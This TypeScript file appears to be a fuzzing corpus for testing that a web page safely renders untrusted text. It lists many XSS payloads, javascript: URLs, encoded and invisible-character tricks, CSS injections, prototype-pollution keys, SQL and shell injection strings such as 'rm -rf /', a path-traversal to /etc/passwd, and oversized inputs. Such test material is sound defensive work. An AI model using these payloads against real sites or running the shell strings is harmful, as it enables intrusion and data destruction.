/** Hostile text: what a sender, or an error that quotes one, can bring into the page. Whatever runs of it sets `__pwned` or opens a dialog. */
const RUN = "window.__pwned=1;alert(1)";
const EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart"];
const TAGS = "script iframe img svg object embed a form input button video audio base link meta style".split(
  " ",
);
const FRAMED = "template noscript textarea title math select table option xmp noembed plaintext".split(" ");
const at = (...codes: number[]): string => codes.map((code) => String.fromCharCode(code)).join("");
const span = (first: number, last: number): number[] =>
  Array.from({ length: last - first + 1 }, (_, n) => first + n);

const markup = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title></textarea></pre></code></bdi><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script src="//evil.invalid/x.js"></script>`,
  `<script type=module>import "data:text/javascript,${RUN}"</script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="javascript:/a/+${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="//evil.invalid/x.css">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload='${RUN}'/>"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<custom-element is=x onfocus="${RUN}" tabindex=0 autofocus>`,
  `<details open ontoggle="${RUN}">`,
  `<x contenteditable onblur="${RUN}">`,
  `<portal src="javascript:${RUN}">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus tabindex='0`,
  `\`-${RUN}-\``,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}}`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `{"__k":null,"type":"img","props":{"src":"x","onerror":"${RUN}"},"constructor":null}`,
  ...EVENTS.map((event) => `<img src=x ${event}="${RUN}" style="animation:a 1s">`),
  ...EVENTS.map((event) => `<svg/${event}=${RUN}>`),
  ...EVENTS.map((event) => `<body ${event}='${RUN}'>`),
  ...TAGS.map((tag) => `<${tag} src=x href="javascript:${RUN}" onload=${RUN} autofocus onfocus=${RUN}>`),
  ...FRAMED.map((tag) => `<${tag}><img src=x onerror="${RUN}"></${tag}><script>${RUN}</script>`),
  ...FRAMED.map((tag) => `</${tag}><svg onload="${RUN}"><${tag}>`),
];

const addresses = [
  ..."javascript: JaVaScRiPt: vbscript: data:text/html, view-source:javascript: blob: feed:javascript:"
    .split(" ")
    .flatMap((scheme) => [`${scheme}${RUN}`, ` ${scheme}//%0a${RUN}`, `<a href="${scheme}${RUN}">x</a>`]),
  `java${at(9)}script:${RUN}`,
  `java${at(10)}script:${RUN}`,
  `${at(1)}javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  "//evil.invalid/",
  "\\\\evil.invalid\\x",
  "https://user:password@evil.invalid/%2e%2e/",
  "../../../../etc/passwd",
  "?scope=x&key=y#/letters/../..",
];

const entities = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `&amp;lt;script&amp;gt;`,
  "&nbsp;&shy;&zwnj;&lrm;&rlm;&ZeroWidthSpace;",
  `%3Cscript%3E${RUN}%3C/script%3E`,
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
];

const styles = [
  "background:url(javascript:alert(1))",
  "background:url(//evil.invalid/x.png)",
  `<style>@import "//evil.invalid/x.css";*{display:none}</style>`,
  `<style>body{background:url("javascript:${RUN}")}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>`,
  `x:expression(${RUN})`,
  `-moz-binding:url(//evil.invalid/x.xml#x)`,
  "}*{display:none}",
  "</style><style>*{display:none!important}",
];

const unseen = [
  ...span(0x00, 0x1f).map((code) => `c0 ${at(code)} end`),
  ...span(0x7f, 0x9f).map((code) => `c1 ${at(code)} end`),
  ...[0xad, 0x61c, 0x200b, 0x200e, 0x200f, 0x2028, 0x2029, 0x2060, 0x3164, 0xfeff, 0xfff9, 0xfffe].map(
    (code) => `unseen ${at(code)} end`,
  ),
  ...[...span(0x202a, 0x202e), ...span(0x2066, 0x2069)].map((code) => `pay ${at(code)}fdp.exe`),
  `${at(0x202e)}>tpircs/<${RUN}>tpircs<`,
  at(0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068).repeat(50),
  at(0x1b).concat("[2J", at(0x1b), "[1;1H", at(0x1b), "[31mred"),
  `${at(0x1b)}]0;title${at(7)}`,
  `${at(0x1b)}]8;;javascript:${RUN}${at(0x1b)}\\link${at(0x1b)}]8;;${at(0x1b)}\\`,
  `${at(0x9b)}31m`,
  `line${at(13)}overwritten`,
  `back${at(8).repeat(4)}gone`,
  `\ud800`,
  `\udc00 first`,
  `last \udbff`,
  `\ude00\ud83d turned`,
  String.fromCodePoint(...span(0xe0020, 0xe007e)),
  `a${at(0x301).repeat(500)}`,
  `<scr${at(0)}ipt>${RUN}</scr${at(0)}ipt>`,
  `<scr${at(0x200b)}ipt>${RUN}</script>`,
  "العربية עברית mixed <b>bold</b>",
];

const names = [
  ..."__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ then toJSON".split(
    " ",
  ),
  "constructor.prototype.polluted",
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
  "key children dangerouslySetInnerHTML ref is",
  "NaN",
  "-0",
  "null",
  "undefined",
  "[object Object]",
  "1e999",
  "' OR 1=1 --",
  "$(touch /tmp/pwned)",
  "; rm -rf / #",
];

const huge = [
  "A".repeat(300_000),
  `<img src=x onerror=${RUN}>`.repeat(6000),
  at(0x202e, 0x41).repeat(150_000),
  at(0, 0x1b).repeat(150_000),
  "\n".repeat(300_000),
  "[".repeat(300_000),
  "&lt;".repeat(75_000),
  "👩‍👩‍👧‍👦".repeat(27_000),
];

const all = [...markup, ...addresses, ...entities, ...styles, ...unseen, ...names];
/** In tens, and the huge ones one by one. */
export const CORPUS: string[][] = [
  ...Array.from({ length: Math.ceil(all.length / 10) }, (_, n) => all.slice(n * 10, n * 10 + 10)),
  ...huge.map((one) => [one]),
];

const DEEP = 20_000;
/** Bodies that are hostile as a whole. */
export const BODIES: Record<string, string | Uint8Array> = {
  "deep lists": "[".repeat(DEEP) + "]".repeat(DEEP),
  "deep objects": '{"a":'.repeat(DEEP / 2) + 1 + "}".repeat(DEEP / 2),
  "deep and never closed": "[".repeat(DEEP),
  "deeper than is shown": "[".repeat(DEEP * 10) + "]".repeat(DEEP * 10),
  "names of prototypes": `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"<img src=x onerror=${RUN}>":"<script>${RUN}</script>","toJSON":1}`,
  "very wide": JSON.stringify(Array.from({ length: 9000 }, (_, n) => n)),
  "a huge line": JSON.stringify("A".repeat(60_000)),
  "a huge page of HTML": `<!doctype html><html onload="${RUN}">${`<script>${RUN}</script>`.repeat(8000)}`,
  "not UTF-8": new Uint8Array(4096).map((_, n) => n * 7),
  "every byte of ASCII": at(...span(0, 127)),
  "a byte order mark": `${at(0xfeff)}{"a":1}`,
  "numbers that do not fit": `{"id":12345678901234567890,"n":${"9".repeat(5000)},"e":1e999,"z":-0}`,
  "one name twice": '{"a":1,"a":"<b>2</b>"}',
};
